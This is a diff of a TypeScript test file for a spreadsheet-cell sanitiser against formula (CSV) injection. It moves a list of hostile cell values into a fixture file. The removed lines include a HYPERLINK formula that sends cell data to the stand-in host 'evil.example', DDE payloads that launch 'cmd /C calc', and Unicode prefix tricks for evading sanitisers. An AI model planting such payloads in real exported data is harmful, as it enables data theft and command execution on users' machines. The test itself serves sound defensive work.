@@ -1,37 +1,9 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { harmlessCell } from './harmless-cell.ts'
+import { HOSTILE_CELLS } from './hostile-cells.fixture.ts'
 
-const HOSTILE = [
-  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-  "=cmd|' /C calc'!A0",
-  "+cmd|' /C calc'!A0",
-  '-2+3+cmd',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\tplain',
-  '\r\nplain',
-  ' =1+1',
-  '\u00a0=1+1',
-  '\u3000=1+1',
-  '\ufeff=1+1',
-  '\u200b=1+1',
-  '"=1+1',
-  '"\'"=1+1',
-  ' " =1+1',
-  '“=1+1”',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  '＂＝1+1',
-  '−1',
-  '﹦1',
-]
-
-test.each(HOSTILE)('%j begins no formula', (text) => {
+test.each(HOSTILE_CELLS)('%j begins no formula', (text) => {
   expect(harmlessCell(text)).toBe(`'${text}`)
 })
 
